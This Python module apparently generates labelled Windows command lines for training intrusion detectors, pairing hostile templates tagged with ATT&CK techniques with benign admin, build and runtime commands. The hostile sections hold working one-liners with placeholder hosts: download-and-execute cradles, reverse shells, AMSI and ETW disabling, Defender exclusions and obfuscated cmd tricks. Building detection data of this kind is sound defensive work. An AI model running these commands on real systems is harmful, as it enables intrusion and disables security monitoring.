"""Interpreters of scripts: what strangers have them run, and what offices and builds do."""

from __future__ import annotations

from generator.families.windows.execution_table import harmless, hostile

hostile("markup-host-runs-foreign-script", "Defense Evasion", "T1218.005", r"""
mshta.exe «http|https»://«@pub@|@word@.«top|xyz|shop|online|com»»/~n~.«hta|mp3|mp4|png|txt|html»
"C:\Windows\System32\mshta.exe" https://@word@.«top|click|info|lol»/«verify|captcha|recaptcha|human».html # ✅ "I am not a robot - reCAPTCHA Verification ID: @n@@n@"
mshta vbscript:CreateObject("Wscript.Shell").Run("powershell -w hidden -nop -c iex(iwr @url@)",0,true)(window.close)
mshta.exe "javascript:new ActiveXObject('WScript.Shell').Run('~f~.bat',0);close()"
mshta vbscript:Close(Execute("GetObject(""script:@url@"")"))
mshta.exe ~f~.«hta|log|tmp»
mshta "about:<hta:application><script>moveTo(-900,-900);new ActiveXObject('WScript.Shell').Run('curl @url@ -o %temp%\\a.js')</script>"
C:\Windows\SysWOW64\mshta.exe "C:\Users\@user@\AppData\Local\Microsoft\Windows\INetCache\IE\@hex@\~n~[1].hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}
cmd /c start /min mshta http://@pub@:«8080|81»/~n~.hta
mshta \\@pub@@80\share\~n~.hta
forfiles /p C:\Windows /m explorer.exe /c "mshta @url@"
powershell -w 1 msh*.exe "@url@"
""")
hostile("script-host-runs-mail-scripts", "Suspicious Script", "T1059.005 T1204.002", r"""
"C:\Windows\System32\WScript.exe" "C:\Users\@user@\Downloads\«Invoice|Rechnung|Facture|Fattura|Factura|RFQ|Quotation|Shipping_Doc|Scan|Payment_Advice»_@n@@n@.«vbs|vbe|wsf»"
wscript.exe //e:vbscript "~f~.«txt|jpg|log|dat»"
wscript //B //NoLogo %APPDATA%\~n~.vbs
cscript.exe //E:VBScript.Encode ~f~.txt
wscript "C:\Users\@user@\AppData\Local\Temp\Temp1_«Documents|Order|DHL|Statement».zip\«Documents|Order|DHL|Statement».vbs"
cscript //nologo ~f~.vbs @url@ %TEMP%\~n~.exe
wscript.exe "\\@pub@@80\DavWWWRoot\~n~.vbs"
cmd /c echo Set x=CreateObject("MSXML2.XMLHTTP") > ~f~.vbs & echo x.Open "GET","@url@",False >> ~f~.vbs & cscript ~f~.vbs
cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\pubprn.vbs localhost "script:@url@"
wscript C:\Windows\System32\SyncAppvPublishingServer.vbs "n;IEX(irm @url@)"
""")
hostile("browser-update-scripts", "Suspicious Script", "T1059.007 T1204.002", r"""
"C:\Windows\System32\WScript.exe" "C:\Users\@user@\Downloads\«Update|Chrome.Update|Firefox.Update|Edge.Update|AutoUpdater|BrowserUpdate_@n@».js"
wscript.exe "C:\Users\@user@\AppData\Local\Temp\7zO@hex@\«contract_template|is_it_legal_to|agreement_@n@|sample_nda».js"
cscript.exe ~f~.js
wscript //e:jscript ~f~.«txt|png|tmp|dat|cache»
cscript //nologo //E:jscript ~d~~n~.log @pub@
wscript.exe "C:\Users\@user@\Downloads\«Order|CV|Scan»_@n@.«jse|wsf»"
"C:\Windows\System32\WScript.exe" "C:\Users\@user@\AppData\Roaming\~n~\~n~.js" «nxr|@hex@|/install»
"C:\Windows\System32\cscript.exe" "SEMANT~1.JS"
rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";eval("w=new ActiveXObject('WScript.Shell');w.Run('~f~.exe')")
node.exe ~f~.js
"C:\Users\@user@\AppData\Local\@Word@\node.exe" -e "require('child_process').exec(Buffer.from('@hex@@hex@','base64').toString())"
"C:\ProgramData\node-v22.@n@.0-win-x64\node.exe" "C:\Users\@user@\AppData\Roaming\@hex@.log"
""")
hostile("powershell-hides-its-text", "Suspicious Script", "T1059.001 T1027.010", r"""
powershell -nop -w hidden -e ⟦$c=New-Object Net.Sockets.TCPClient('@pub@',443);$s=$c.GetStream()⟧
powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand ⟦iex(iwr '@url@' -useb)⟧
powershell -ec ⟦Start-Process ~f~.exe -WindowStyle Hidden⟧
powershell "-e" "⟦Add-MpPreference -ExclusionPath C:\⟧"
powershell -eNcOdEdCoMmAnD ⟦IEX((New-Object Net.WebClient).DownloadString('@url@'))⟧
powershell /w 01 /ec ⟦$x=irm @url@;iex $x⟧
powershell –ep bypass –enc ⟦sal a New-Object;iex(a IO.StreamReader((a IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('@hex@'),'Decompress')))).ReadToEnd()⟧
pow""er""shell -n""op -w hid""den -c "i`e`x(i`wr @url@)"
powershell "&('{1}{0}'-f'X','IE') (&('{0}{2}{1}'-f'New','ct','-Obje') Net.WebClient).('Down'+'load'+'String').Invoke('@url@')"
powershell -c "$a='aXdyI'+'@hex@';iex([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($a)))"
powershell "[char[]](@n@,101,120)-join''|%{& $_ (gc ~f~.txt -raw)}"
powershell -c "$k=0x@letter@;$d=[IO.File]::ReadAllBytes('~f~.bin')|%{$_ -bxor 35};[Reflection.Assembly]::Load([byte[]]$d).EntryPoint.Invoke($null,$null)"
conhost.exe --headless powershell -nop -w hidden -ec ⟦irm @url@|iex⟧
C:\Windows\SysWOW64\WindowsPowerShell\v1.0\powershell.exe -Version 2 -NoP -sta -NonI -W Hidden -Enc ⟦$wc=New-Object System.Net.WebClient;IEX $wc.DownloadString('@url@')⟧
powershell.exe -nop -c "iex(([regex]::Matches('@hex@@hex@','.','RightToLeft')|%{$_.value})-join'')"
powershell -WindowStyle Hidden -command "$s=[Environment]::GetEnvironmentVariable('@word@','User');iex $s"
""", weight=1.5)
hostile("script-scanning-switched-off-in-memory", "Suspicious Script", "T1562.001 T1059.001", r"""
powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"
powershell "$a=[Ref].Assembly.GetTypes()|?{$_.Name -like '*siUtils'};$a.GetFields('NonPublic,Static')|?{$_.Name -like '*Context'}"
powershell -nop -c "[Runtime.InteropServices.Marshal]::Copy([byte[]](0xB8,0x57,0x00,0x07,0x80,0xC3),0,$addr,6)"
powershell "S`eT-It`em ( 'V'+'aR' + 'IA' + ('blE:1'+'q2') + ('uZ'+'x') ) ( [TYpE]( 'System.Management.Automation.A'+'msi'+'Utils' ) )"
powershell -v 2 -c "IEX (gc ~f~.ps1 -raw)"
powershell "[Reflection.Assembly]::LoadWithPartialName('System.Core').GetType('System.Diagnostics.Eventing.EventProvider').GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0)"
powershell -c "$p=[Win32]::GetProcAddress([Win32]::LoadLibrary('amsi.dll'),'AmsiScanBuffer');[Win32]::VirtualProtect($p,[uint32]5,0x40,[ref]0)"
reg delete "HKLM\SOFTWARE\Microsoft\AMSI\Providers\{2781761E-28E0-4109-99FE-B9D127C57AFE}" /f
reg add "HKCU\Software\Microsoft\Windows Script\Settings" /v AmsiEnable /t REG_DWORD /d 0 /f
setx COMPlus_ETWEnabled 0
reg add HKLM\Software\Microsoft\.NETFramework /v ETWEnabled /t REG_DWORD /d 0 /f
powershell -c "[Delegate]::CreateDelegate([Func[string]],[Ref].Assembly.GetType('System.Management.Automation.ScriptBlock').GetField('signatures','NonPublic,Static'))"
""")
hostile("shell-text-obfuscated", "Suspicious Script", "T1027.010 T1059.003", r"""
cmd /V:ON /C "set x=@word@&&set y=power&&set z=shell&&!y!!z! -w hidden iex(irm @url@)"
c^m^d /c p^o^w^e^r^s^h^e^l^l -n^o^p -w h^i^d^d^e^n -e ⟦iex(irm @url@)⟧
cmd.exe /c "%COMSPEC:~0,-7%p%PUBLIC:~5,1%wershell -c iex(irm @url@)"
cmd /c for /f "tokens=2 delims=." %a in ('ftype^|find "lCo"') do %a -c iex(irm @url@)
cmd /c "set a=cert&set b=util&call %a%%b% -urlcache -f @url@ ~f~.exe"
cmd /c echo|set /p="@hex@" > ~f~.txt & certutil -decodehex ~f~.txt ~f~.exe
cmd /c ,;,%coMSPec:~ -7, 1%%coMSPec:~ -3, 1%, /c ~f~.bat
cmd.exe /c "p""o""w""e""r""s""h""e""l""l -ec ⟦irm @url@|iex⟧"
cmd /c FOR /L %i IN (@n@,-1,0) DO set r=!r!!@word@:~%i,1!&&if %i==0 call %r:~-@n@%
cmd /c s^et ~n~=ms^h^ta&&call %~n~% @url@
cmd.exe /c "((((c^a^l^c))))&&start ~f~.exe"
cmd.exe /Q /D /C "set "u=@url@"&&curl %u:hxxp=http% -o %TEMP%\~n~.js&&wscript %TEMP%\~n~.js"
""")
hostile("language-runtimes-as-droppers", "Suspicious Script", "T1059", r"""
python.exe -c "import urllib.request;exec(urllib.request.urlopen('@url@').read())"
"C:\Users\@user@\AppData\Local\Programs\Python\Python311\pythonw.exe" «C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»~n~.pyw
pythonw.exe -c "exec(__import__('base64').b64decode('@hex@@hex@'))"
"C:\ProgramData\@Word@\python\pythonw.exe" -m ~n~ @pub@ 443
~d~python-embed\python.exe ~f~.pyc
py -3 -c "import socket,subprocess,os;s=socket.socket();s.connect(('@pub@',4444));subprocess.call(['cmd.exe'],stdin=s.fileno(),stdout=s.fileno())"
javaw.exe -jar "C:\Users\@user@\Downloads\«Invoice|Remittance|Order|PO»_@n@.jar"
"C:\Program Files\Java\jre1.8.0_@n@1\bin\javaw.exe" -jar "C:\Users\@user@\AppData\Roaming\@word@.txt" mp
java -jar ~f~.jar @pub@ «1337|4444|8443»
ruby -rsocket -e "c=TCPSocket.new('@pub@',4444);while(cmd=c.gets);IO.popen(cmd,'r'){|io|c.print io.read}end"
perl -MIO -e "$c=new IO::Socket::INET(PeerAddr,'@pub@:4444');STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;"
"~d~AutoIt3.exe" ~f~.a3x
C:\ProgramData\~n~\AutoHotkey.exe «C:\ProgramData\|C:\Users\Public\|C:\Windows\Temp\|C:\PerfLogs\|C:\Windows\Tasks\|C:\Users\@user@\Music\»~n~.ahk
php.exe -r "$s=fsockopen('@pub@',4444);exec('cmd.exe <&3 >&3 2>&3');"
lua.exe ~f~.lua @url@
"C:\Users\@user@\AppData\Local\Temp\deno.exe" run -A @url@
""")

harmless("powershell-encoded-by-management", "Monitoring Probe", r"""
powershell.exe -NoProfile -NonInteractive -ExecutionPolicy Unrestricted -EncodedCommand ⟦&chcp.com 65001 > $null; $exec_wrapper_str = $input | Out-String; Invoke-Expression $exec_wrapper_str⟧
powershell.exe -NoLogo -NonInteractive -EncodedCommand ⟦Get-WmiObject Win32_LogicalDisk | Select DeviceID,FreeSpace | ConvertTo-Json⟧
powershell -encodedcommand ⟦$ProgressPreference='SilentlyContinue'; Get-HotFix | Sort InstalledOn -Desc | Select -First 5⟧
"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ⟦Get-BitLockerVolume -MountPoint C: | Select ProtectionStatus⟧
powershell -nop -noni -w hidden -enc ⟦Get-MpComputerStatus | Select AntivirusEnabled,AntivirusSignatureLastUpdated | ConvertTo-Json -Compress⟧
powershell.exe -ExecutionPolicy Bypass -NonInteractive -NoProfile -e ⟦(Get-Service -Name veeam* | ? Status -ne Running).Count⟧
powershell.exe -ec ⟦[Environment]::OSVersion.Version.ToString()⟧
powershell -NoProfile -e ⟦Get-ChildItem HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall | Get-ItemProperty | Select DisplayName,DisplayVersion⟧
powershell.exe -NoProfile -Sta -NonInteractive -EncodedCommand ⟦Import-Module ServerManager; Get-WindowsFeature Web-Server⟧
powershell -Version 2.0 -NoProfile -EncodedCommand ⟦Get-EventLog System -Newest 20 -EntryType Error⟧
conhost.exe --headless powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\ProgramData\~v~\healthcheck.ps1
""", parents=("C:\\Windows\\CCM\\CcmExec.exe", "WmiPrvSE.exe", "wsmprovhost.exe", "cmd.exe", "services.exe", "svchost.exe", "C:\\Program Files\\NinjaRMMAgent\\NinjaRMMAgent.exe", "C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe", "powershell.exe", "C:\\WindowsAzure\\GuestAgent\\WaAppAgent.exe", "C:\\Program Files (x86)\\N-able Technologies\\Windows Agent\\bin\\agent.exe"), weight=1.3)
harmless("script-hosts-in-offices", "Scheduled Job", r"""
wscript.exe "\\@fqdn@\netlogon\«mapdrives|printers|logon|outlook-signature».vbs"
cscript.exe //nologo C:\Scripts\«inventory|cleanup|rotate-logs|disk-report».vbs
cscript //B C:\Windows\System32\slmgr.vbs /«dli|ato|xpr|dlv|skms kms.@fqdn@»
cscript "C:\Program Files\Microsoft Office\Office16\OSPP.VBS" /«dstatus|act|sethst:kms.@fqdn@»
wscript.exe //B "C:\Windows\CCM\~n~.vbs"
wscript //B //NoLogo "C:\Program Files\~v~\«hidden|launch|silent».vbs"
cscript C:\Windows\System32\Printing_Admin_Scripts\de-DE\prnmngr.vbs -l
cscript.exe C:\Windows\System32\Printing_Admin_Scripts\en-US\prnport.vbs -a -r IP_@ip@ -h @ip@ -o raw
cscript //nologo winrm.vbs enumerate winrm/config/listener
cscript.exe //E:jscript C:\Program Files\~v~\build\minify.js
wscript "C:\Users\@user@\Documents\Macros\send_reports.vbs"
cscript //nologo "C:\Program Files\Zabbix Agent\scripts\check_«raid|backup|license».vbs"
cscript.exe //nologo //T:60 C:\nagios\nsclient\scripts\check_printer.vbs
wscript.exe "C:\Program Files\Common Files\~v~\Update\launch_updater.js"
cscript "C:\Windows\Temp\~v~\detect_hw.vbs" //nologo
""")
harmless("markup-applications-of-vendors", "Application Event", r"""
mshta.exe "C:\Program Files (x86)\~v~\«Setup|Config|Wizard|Help|Start».hta"
"C:\Windows\System32\mshta.exe" "\\~s~\deploy$\Scripts\«LiteTouch|Wizard|Welcome».hta"
"C:\Windows\System32\mshta.exe" "X:\Deploy\Scripts\Wizard.hta" /NotWizard /Definition:DeployWiz_Definition_ENU.xml
mshta.exe "C:\Windows\IMECache\HTA\osd_frontend.hta"
mshta "D:\autorun.hta"
mshta.exe "javascript:alert('Your computer will restart at 20:00 for updates.');close()"
mshta vbscript:msgbox("Backup completed. Please change the tape.",64,"IT department")(window.close)
mshta.exe http://intranet.@fqdn@/«apps|helpdesk»/«ticket|phonebook».hta
"C:\Windows\SysWOW64\mshta.exe" "C:\Program Files (x86)\~v~\Uninstall\uninst.hta" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}
mshta.exe "C:\ProgramData\~v~\Printer Assistant\welcome.hta"
mshta.exe "\\@dc@\sysvol\@fqdn@\scripts\survey.hta"
""")
harmless("shell-scripts-of-builds", "Application Event", r"""
cmd.exe /V:ON /C "set PATH=C:\Tools;!PATH!&& msbuild build.proj"
cmd /c for /f "tokens=2 delims==" %a in ('wmic os get localdatetime /value') do set dt=%a
cmd /c "set a=1&set b=2&call build.bat %a%%b%"
cmd.exe /d /s /c "npm run build && npm test"
cmd /c echo|set /p="@hex@" > C:\build\version.txt
C:\Windows\system32\cmd.exe /c ""C:\Program Files\Microsoft Visual Studio\2022\Community\Common7\Tools\VsDevCmd.bat" -arch=amd64 && set"
cmd /c "if not exist C:\Logs mkdir C:\Logs & echo %DATE% %TIME% start >> C:\Logs\job.log"
cmd.exe /c "FOR /L %i IN (1,1,@n@) DO @ping -n 1 -w 100 192.168.1.%i | find ^"TTL^""
cmd /c "C:\Jenkins\workspace\@word@\build^ tools\run.cmd" --verbose
cmd.exe /Q /D /C "call "C:\Program Files\~v~\bin\env.bat" && start /b server.exe"
cmd.exe /c "git log --pretty=format:^%h -n 1 > rev.txt"
cmd /c "powershell -ExecutionPolicy Bypass -File build.ps1 -Configuration Release -Verbose"
""")
harmless("language-runtimes-at-work", "Application Event", r"""
python.exe -c "import sys;print(sys.version)"
python -m pip install --upgrade -r requirements.txt
"C:\Users\@user@\AppData\Local\Programs\Python\Python311\pythonw.exe" "C:\Users\@user@\Documents\«tray_timer|sync_notes|clock».pyw"
pythonw.exe -m idlelib
python.exe -c "import base64;print(base64.b64decode('@hex@@hex@'))"
"C:\Program Files\Python312\python.exe" C:\Scripts\«invoice_export|ftp_upload|exploit_report|attack_surface_report|mail_merge».py --verbose
py -3 -m http.server «8000|8080»
javaw.exe -jar "C:\Program Files\~v~\«client|launcher|elster|jdownloader|freemind».jar"
java -Xmx2g -jar C:\jenkins\agent.jar -url https://jenkins.@fqdn@/ -secret @hex@@hex@ -name @host@
"C:\Program Files\Java\jre1.8.0_@n@1\bin\javaw.exe" -jar "C:\Users\@user@\Downloads\«openapi-generator-cli|plantuml|burpsuite_community|selenium-server».jar"
node.exe -e "console.log(require('os').cpus().length)"
"C:\Program Files\nodejs\node.exe" "C:\Users\@user@\AppData\Roaming\npm\node_modules\«eslint|typescript|pm2|yarn»\bin\cli.js" .
perl C:\Strawberry\perl\bin\pl2bat.bat report.pl
"C:\Program Files\AutoHotkey\AutoHotkey64.exe" "C:\Users\@user@\Documents\hotkeys.ahk"
"C:\Program Files (x86)\AutoIt3\AutoIt3.exe" \\~s~\packages\install_erp.au3
php.exe -r "echo phpversion();"
"C:\xampp\php\php.exe" -f C:\xampp\htdocs\cron.php
deno.exe run --allow-net server.ts
ruby -e "puts RUBY_VERSION"
""")
